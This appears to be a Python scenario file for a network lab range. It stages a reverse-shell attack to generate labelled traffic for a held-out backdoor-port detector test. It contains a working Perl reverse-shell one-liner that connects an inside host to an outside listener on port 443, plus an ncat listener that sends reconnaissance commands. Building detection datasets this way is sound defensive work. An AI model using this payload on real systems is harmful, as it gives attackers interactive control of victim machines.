"""perl of an inside host calls port 443 outside and gives an interactive shell, with nothing of TLS."""

from lab.range import Range
from lab.scenario import Scenario

SHELL = (
    'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    "connect(S,sockaddr_in($ARGV[1],inet_aton($ARGV[0])))||die;"
    'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'
)
ORDERS = "sleep 2; for order in id 'uname -s' 'ip address' 'head -30 /etc/services' 'ip neigh'; do"
ORDERS += " echo $order; sleep 3; done"


def run(net: Range) -> None:
    pc3, listener, www = net.inside("pc3"), net.outside("attacker"), net.web(net.outside("www"))
    net.everyday()
    net.loop(pc3, f"curl -s -k -m 3 -o /dev/null https://{www.ip}/", 1.3)
    listener.start("sh", "-c", f"({ORDERS}) | ncat -l -n -p 443")
    net.quiet(4)
    with net.attack(
        "backdoor-port",
        by=[pc3, listener],
        attackers=[listener],
        victims=[pc3],
        others={"client": [pc3], "server": [listener]},
        also=["reverse-shell"],
        frames=f"tcp and host {listener.ip} and host {pc3.ip} and port 443",
    ):
        net.tool(pc3, "env", "-C", "/", "perl", "-e", SHELL, listener.ip, "443", seconds=22)
    net.quiet(3)


SCENARIO = Scenario(
    name="backdoor-port-held-perl",
    about="perl on an inside host calls port 443 outside and gives a plain interactive shell there.",
    detectors=("backdoor-port",),
    tools={"perl": "perl-base", "ncat": "ncat"},
    held_out=True,
    run=run,
)
